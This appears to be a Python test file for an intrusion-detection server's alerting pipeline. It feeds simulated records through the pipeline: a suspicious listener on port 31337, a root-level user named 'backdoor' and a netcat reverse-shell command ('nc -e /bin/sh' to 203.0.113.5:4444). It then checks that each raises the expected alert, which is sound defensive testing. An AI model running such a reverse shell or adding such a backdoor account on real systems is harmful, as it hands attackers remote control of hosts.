"""The detection service inside a real server: derived asset changes and agents' records become alerts."""

from __future__ import annotations

import time

import anyio
import pytest

from elkeid.server.pipeline import Batch
from elkeid.server.store import AlertFilter
from tests.unit.server._inproc import batch, channel, enroll, read_command, running_server, transfer

pytestmark = pytest.mark.anyio


async def wait_alerts(ctx, n: int, timeout: float = 20) -> list[dict]:
    with anyio.fail_after(timeout):
        while True:
            items, total = await anyio.to_thread.run_sync(lambda: ctx.store.list_alerts(AlertFilter(), limit=100))
            if total >= n:
                return items
            await anyio.sleep(0.05)


async def test_asset_change_records_raise_new_port_and_new_user_alerts(tmp_path):
    async with running_server(tmp_path / "srv") as ctx:
        await anyio.to_thread.run_sync(enroll, ctx, "a1")
        heard = []
        ctx.detection.on_alert(lambda kind, data: heard.append((kind, data.get("rule_id"))))
        now = int(time.time())
        await ctx.derived[0].send(Batch("a1", 0, [
            (5051, now, {"change": "added", "family": "ipv4", "protocol": "tcp", "sip": "0.0.0.0", "sport": "31337",
                         "pid": "4242", "exe": "/tmp/.x/listener", "comm": "listener", "uid": "1000"}),
            (5052, now, {"change": "added", "username": "backdoor", "uid": "0", "gid": "0", "shell": "/bin/bash"}),
            (5052, now, {"username": "alice", "uid": "1000"}),  # a snapshot record, no change: silent
        ]))  # fmt: skip
        items = await wait_alerts(ctx, 4)
        assert sorted(a["rule_id"] for a in items) == ["listen_port_added_asset", "listen_port_suspicious_process",
                                                       "uid0_user_added_asset", "user_added_asset"]  # fmt: skip
        assert {a["agent_id"] for a in items} == {"a1"}
        port = next(a for a in items if a["rule_id"] == "listen_port_added_asset")
        assert port["event"]["sport"] == "31337" and port["data_type"] == 5051
        assert sorted(r for k, r in heard if k == "new") == sorted(a["rule_id"] for a in items)
        status = ctx.detection.status()
        assert status["runner"]["derived_records"] == 3 and status["runner"]["records"] == 0


async def test_agent_records_become_alerts_after_they_are_durable(tmp_path):
    async with running_server(tmp_path / "srv") as ctx:
        ident = await anyio.to_thread.run_sync(enroll, ctx, "a2")
        async with channel(ctx, ident) as chan:
            call = transfer(chan)
            shell = {"pid": "300", "ppid": "1", "exe": "/usr/bin/nc", "argv": "nc -e /bin/sh 203.0.113.5 4444"}
            await call.write(batch("a2", 1, [(59, shell)], hostname="db-7").SerializeToString())
            assert (await read_command(call)).ack_seq == 1
            await call.done_writing()
        [alert] = await wait_alerts(ctx, 1)
        assert (alert["rule_id"], alert["hostname"], alert["event"]["argv"]) == (
            "reverse_shell_netcat_exec", "db-7", shell["argv"])
        status = ctx.detection.status()
        assert status["runner"]["records"] == 1 and status["rules"]["running"]["rules"] == 70
